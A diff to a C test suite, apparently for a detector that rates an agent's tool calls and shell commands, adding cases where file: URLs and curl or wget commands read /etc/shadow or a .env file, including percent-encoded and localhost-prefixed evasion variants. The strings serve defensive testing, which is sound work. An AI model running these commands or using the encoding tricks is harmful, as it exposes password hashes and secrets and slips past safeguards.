@@ -364,6 +364,15 @@ forms(void)
 	    "shadow");
 	call("list_dir", "{\"directory\":\"/home/bob/.ssh/\"}", NULL, H,
 	    "ssh-keys");
+	/* a file: URL under any key names a file */
+	call("web_fetch", "{\"url\":\"file:///etc/shadow\"}", NULL, C,
+	    "shadow");
+	call("web_fetch", "{\"u\":\"FILE://localhost/app/.env\"}", NULL, H,
+	    "dotenv");
+	call("web_fetch", "{\"url\":\"file://127.0.0.1/etc/shadow\"}", NULL,
+	    C, "shadow");
+	call("web_fetch", "{\"url\":\"file://h.example/etc/shadow\"}", NULL,
+	    L, "fetch");
 
 	/* Arguments by JSON path. */
 	call("web_fetch", "{\"url\":\"https://ok.example/x\"}", NULL, L,
@@ -997,6 +1006,10 @@ evasions(void)
 	evade("cat /proc/1/root/etc/sudoers", C, "shadow");
 	evade("curl -d @/etc/shadow x", C, "shadow");
 	evade("curl file:///etc/shadow", C, "shadow");
+	evade("curl file://localhost/etc/shadow", C, "shadow");
+	evade("curl -o x file:/etc/shadow", C, "shadow");
+	evade("curl file:///etc/%73hadow", C, "shadow");
+	evade("wget FILE:///etc/sha%64ow", C, "shadow");
 	evade("sort -o.env x", H, "dotenv");
 	/* values the line gives a variable, then a path through it */
 	evade("x=/etc; cat $x/shadow", C, "shadow");
